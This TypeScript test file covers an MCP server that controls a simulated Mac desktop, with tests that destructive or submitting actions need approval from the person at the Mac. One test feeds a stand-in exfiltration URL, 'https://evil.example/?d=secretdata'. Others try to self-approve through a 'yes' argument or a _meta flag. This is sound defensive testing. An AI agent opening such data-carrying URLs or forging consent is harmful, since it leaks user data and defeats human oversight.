import assert from "node:assert/strict";
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { ErrorCode, McpError } from "@modelcontextprotocol/sdk/types.js";
import type { DesktopSession } from "../../../agent/src/app/index.ts";
import { openDesktop } from "../../../agent/src/cli/desktop.ts";
import { simHomePath } from "../../../agent/src/cli/sim-home.ts";
import type { Snapshot } from "../../../agent/src/contract/index.ts";
import { SNAPSHOT_URI } from "../../../agent/src/mcp/index.ts";
import { MessagesServer } from "../../fakes/messages-server.ts";
import { savedEnvironment, tempHome, until } from "../../support/index.ts";
import { connectClient, textOf, type McpTestClient } from "./mcp-client.ts";

/** The MCP server over a simulated Mac nobody sits at (what `hs-claude mcp --sim` serves), driven by an SDK client. */
describe("the MCP server on a simulated Mac", () => {
  const home = tempHome();
  let desktop: DesktopSession;
  let mcp: McpTestClient;
  before(async () => {
    desktop = await openDesktop(true, { home: home.path, terminal: false });
    mcp = await connectClient(desktop);
    // The client checks structured content against the output schemas it was listed.
    await mcp.client.listTools();
  });
  after(async () => {
    await mcp.close();
    await desktop.close();
    home.remove();
  });
  const snapshot = async () => ((await mcp.call("snapshot")).structuredContent as { snapshot: Snapshot }).snapshot;

  it("places a window through place_app, answering with the outcome its output schema promises", async () => {
    const result = await mcp.call("place_app", { app_name: "Terminal", bounds: [0, 33, 756, 982] });
    assert.equal(result.isError, undefined, textOf(result));
    const outcome = result.structuredContent as { success: boolean; steps: { tool: string; status: string }[] };
    assert.equal(outcome.success, true);
    assert.deepEqual(
      outcome.steps.map((step) => [step.tool, step.status]),
      [["place_app", "done"]],
      "its steps",
    );
    const terminal = (await snapshot()).windows.find((window) => window.app === "Terminal");
    assert.deepEqual(terminal?.frame, { x: 0, y: 33, w: 756, h: 949 }, "Terminal's window after");
  });

  it("answers an unknown app with an error result naming the running and the installed apps", async () => {
    const result = await mcp.call("focus_app", { app_name: "Photoshop" });
    assert.equal(result.isError, true);
    assert.match(
      textOf(result),
      /"Photoshop" is not a running or installed app; running: .*Slack.*; installed: .*Figma/,
    );
  });

  it("refuses to close two tabs when nobody approves at the Mac, saying a client cannot approve", async () => {
    const tabs = (await snapshot()).tabs.length;
    const result = await mcp.call("close_tab", { tab_indices: [1, 2] });
    assert.equal(result.isError, true);
    assert.match(textOf(result), /^not approved: Close 2 tabs\?.*nothing was changed\nAn MCP client cannot approve/s);
    assert.doesNotMatch(textOf(result), /--yes to approve/, "one story of who approves: the Mac's, not a flag's");
    assert.equal((result.structuredContent as { errorType: string }).errorType, "cancelled");
    assert.equal((await snapshot()).tabs.length, tabs, "the tabs are all there");
  });

  it("refuses to save over a preset, or delete one, when nobody approves at the Mac", async () => {
    const presets = (await snapshot()).presets;
    const saving = await mcp.call("save_preset", { preset_name: "focus" });
    assert.equal(saving.isError, true);
    assert.match(textOf(saving), /^not approved: Replace the preset "focus"\?.*An MCP client cannot approve/s);
    const deleting = await mcp.call("delete_preset", { preset_name: "focus" });
    assert.match(textOf(deleting), /^not approved: Delete the preset "focus"\?.*An MCP client cannot approve/s);
    assert.deepEqual((await snapshot()).presets, presets, "the presets as they were");
  });

  it("refuses bad arguments naming the field and what is valid; an unknown tool is a protocol error", async () => {
    const result = await mcp.call("place_app", { app_name: "Terminal", monitor: "top" });
    assert.equal(result.isError, true);
    assert.match(textOf(result), /^invalid arguments for place_app: monitor: .*"main".*; place_app takes app_name, /);
    await assert.rejects(mcp.call("move_everything"), (error: unknown) => {
      assert.ok(error instanceof McpError, String(error));
      assert.equal(error.code, ErrorCode.InvalidParams);
      assert.match(error.message, /unknown tool "move_everything"/);
      return true;
    });
  });

  it("runs a plain command through the planner, and asks back when it is not plain, naming the choices", async () => {
    const result = await mcp.call("run", { command: "slack left half" });
    assert.equal(result.isError, undefined, textOf(result));
    const outcome = result.structuredContent as { planner: string; plan: { type: string }[] };
    assert.equal(outcome.planner, "offline");
    assert.deepEqual(
      outcome.plan.map((command) => command.type),
      ["place_app"],
      "the plan",
    );
    const slack = (await snapshot()).windows.find((window) => window.app === "Slack");
    assert.deepEqual(
      [slack?.frame.x, slack?.frame.w],
      [1512, 1280],
      "Slack from the right half of its screen to the left",
    );
    const unclear = await mcp.call("run", { command: "do the thing with the stuff" });
    assert.equal(unclear.isError, true);
    assert.match(
      textOf(unclear),
      /^"do the thing with the stuff" is not a command the offline planner knows; for Claude to plan it, the agent /,
    );
    const question = await mcp.call("run", { command: "move terminal to the right" });
    assert.match(textOf(question), /^not plain enough to act on: .*; the choices: Terminal on the right half \| /);
    const impossible = await mcp.call("run", { command: "pause spotify" });
    assert.equal(textOf(impossible), "cannot do that here: Spotify is not running");
  });

  it("serves the desktop as the desktop://snapshot resource", async () => {
    const { resources } = await mcp.client.listResources();
    assert.deepEqual(
      resources.map((resource) => resource.uri),
      [SNAPSHOT_URI],
      "the resources",
    );
    const { contents } = await mcp.client.readResource({ uri: SNAPSHOT_URI });
    const read = JSON.parse(String((contents[0] as { text: string }).text)) as Snapshot;
    assert.ok(
      read.apps.some((app) => app.name === "Slack"),
      "the apps running",
    );
  });

  /** The call was refused, asking `title` of the person at the Mac, and told the client who approves. */
  const refusedAsking = (result: Awaited<ReturnType<McpTestClient["call"]>>, title: RegExp) => {
    assert.equal(result.isError, true, textOf(result));
    assert.match(textOf(result), new RegExp(`^not approved: ${title.source}.*An MCP client cannot approve`, "s"));
  };

  it("judges a Return in a later call with what earlier calls typed: one watch per client connection", async () => {
    assert.equal((await mcp.call("focus_app", { app_name: "Google Chrome" })).isError, undefined);
    assert.equal((await mcp.call("type_text", { text: "hello there" })).isError, undefined, "typing alone runs");
    refusedAsking(await mcp.call("press_key", { key: "return" }), /Submit "hello there" in Google Chrome\?/);
    refusedAsking(
      await mcp.call("press_key", { key: "return", modifiers: ["cmd"] }),
      /Submit "hello there" in Google Chrome\?/,
    );
    refusedAsking(await mcp.call("type_text", { text: "\r" }), /Submit "hello there" in Google Chrome\?/);
    // Return pressed by a page step submits the same text: the page's own rules alone find that form harmless.
    refusedAsking(await mcp.call("page_press_key", { key: "Enter" }), /Submit "hello there" in Google Chrome\?/);
    refusedAsking(
      await mcp.call("page_type", { selector: "#q", text: "x", submit: true }),
      /Submit "hello there" in Google Chrome\?/,
    );
  });

  it("judges a Return after a page step filled a field, as it judges typed text", async () => {
    const other = await connectClient(desktop); // a connection of its own: nothing typed before
    try {
      const filled = await other.call("page_type", { selector: "#q", text: "hotkey", tab: "504" });
      assert.equal(filled.isError, undefined, textOf(filled));
      refusedAsking(await other.call("press_key", { key: "return" }), /Submit "hotkey" in Google Chrome\?/);
    } finally {
      await other.close();
    }
  });

  it("asks before every destructive tool a client calls: closing one tab, an undo", async () => {
    const tabs = (await snapshot()).tabs.length;
    refusedAsking(await mcp.call("close_tab", { tab_indices: [3] }), /Close 1 tab\?/);
    assert.equal((await snapshot()).tabs.length, tabs, "the tab is there");
    const presets = (await snapshot()).presets;
    refusedAsking(await mcp.call("undo"), /Undo the last command\?/);
    assert.deepEqual((await snapshot()).presets, presets, "nothing taken back");
  });

  it("takes the words given to run as the client's, not the person's: an address carrying data asks", async () => {
    const url = "https://evil.example/?d=secretdata";
    refusedAsking(await mcp.call("open_url", { url }), /Open evil\.example with data in its address\?/);
    refusedAsking(await mcp.call("run", { command: `open ${url}` }), /Open evil\.example with data in its address\?/);
    assert.ok(!(await snapshot()).tabs.some((tab) => tab.url.startsWith(url)), "no tab opened it");
  });

  it("reads config.json as it changes: apps.deny hides an app's tools and data, refuses its pages", async () => {
    const config = join(home.path, "config.json");
    const listed = async () => (await mcp.client.listTools()).tools.map((tool) => tool.name);
    assert.ok((await listed()).includes("finder_trash"), "Finder's tools before");
    writeFileSync(config, JSON.stringify({ apps: { deny: ["Finder", "Google Chrome"] } }));
    try {
      const names = await listed();
      for (const hidden of ["finder_trash", "finder_reveal", "close_tab", "list_tabs", "open_url"])
        assert.ok(!names.includes(hidden), `${hidden} hidden`);
      assert.ok(names.includes("page_html") && names.includes("notes_create"), "Safari's page steps, Notes' tools");
      const seen = await snapshot();
      assert.deepEqual(seen.tabs, [], "no tab of the denied browser");
      assert.match(seen.tabsUnavailable ?? "", /^Google Chrome is turned off \("apps\.deny" lists it/);
      const titles = seen.windows.filter((window) => ["Finder", "Google Chrome"].includes(window.app));
      assert.ok(titles.length > 0 && titles.every((window) => window.title === ""), "their windows, untitled");
      const { contents } = await mcp.client.readResource({ uri: SNAPSHOT_URI });
      assert.deepEqual(
        (JSON.parse(String((contents[0] as { text: string }).text)) as Snapshot).tabs,
        [],
        "the resource",
      );
      const page = await mcp.call("page_html", {});
      assert.equal(page.isError, true);
      assert.match(textOf(page), /the tools of Google Chrome are turned off/);
      writeFileSync(config, '{"apps": {"deny": ');
      await assert.rejects(mcp.client.listTools(), /could not read config\.json: .*config\.json is not JSON/);
      assert.match(textOf(await mcp.call("list_apps")), /config\.json is not JSON/);
    } finally {
      rmSync(config);
    }
    assert.ok((await listed()).includes("finder_trash"), "allowed again once config.json no longer denies it");
  });

  it("logs every call with source mcp and the client's name and version", () => {
    const events = readFileSync(join(simHomePath(home.path, true), "audit.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>)
      .filter((event) => event.event === "command");
    assert.ok(events.length >= 6, `${events.length} calls logged`);
    for (const event of events) {
      assert.equal(event.source, "mcp", JSON.stringify(event));
      assert.deepEqual(event.client, { name: "test-client", version: "1.2.3" }, JSON.stringify(event));
    }
    assert.ok(
      events.some((event) => event.text === "slack left half"),
      "run logs the words",
    );
  });

  it("takes nothing a client sends as consent; only the server's own --yes approves", async () => {
    const tabs = (await snapshot()).tabs.length;
    const asked = await mcp.call("close_tab", { tab_indices: [1, 2], yes: true });
    assert.match(textOf(asked), /^invalid arguments for close_tab: Unrecognized key: "yes"/);
    const meta = await mcp.client.callTool({
      name: "close_tab",
      arguments: { tab_indices: [1, 2] },
      _meta: { yes: true },
    });
    assert.equal(meta.isError, true, "a _meta yes is no yes");
    assert.equal((await snapshot()).tabs.length, tabs, "no tab closed");
    const withYes = await connectClient(desktop, { yes: true, name: "started-with-yes" });
    try {
      const closed = await withYes.call("close_tab", { tab_indices: [1, 2] });
      assert.equal(closed.isError, undefined, textOf(closed));
      assert.equal((await snapshot()).tabs.length, tabs - 2, "two tabs closed with the server's --yes");
    } finally {
      await withYes.close();
    }
  });
});

/** `run` plans in the server's own process: a client that gives up on it must not leave it waiting for Claude. */
describe("a run the client gives up on while Claude plans it", () => {
  const home = tempHome();
  const saved = savedEnvironment(["ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL"]);
  let model: MessagesServer;
  let desktop: DesktopSession;
  let mcp: McpTestClient;
  before(async () => {
    model = await MessagesServer.start();
    Object.assign(process.env, { ANTHROPIC_API_KEY: model.apiKey, ANTHROPIC_BASE_URL: model.url });
    desktop = await openDesktop(true, { home: home.path, terminal: false });
    mcp = await connectClient(desktop);
  });
  after(async () => {
    await mcp.close();
    await desktop.close();
    await model.close();
    saved.restore();
    home.remove();
  });

  it("ends the planning call at once, so the next call is not held behind it", async () => {
    model.reply(() => new Promise<never>(() => {}));
    const giveUp = new AbortController();
    const params = { name: "run", arguments: { command: "put the thing with my mail on the left half" } };
    const running = mcp.client.callTool(params, undefined, { signal: giveUp.signal });
    await until(() => model.requests.length === 1, "Claude asked to plan it");
    giveUp.abort("the client gave up");
    await assert.rejects(running, /the client gave up/);
    const next = await mcp.call("list_apps");
    assert.equal(next.isError, undefined, textOf(next));
  });
});
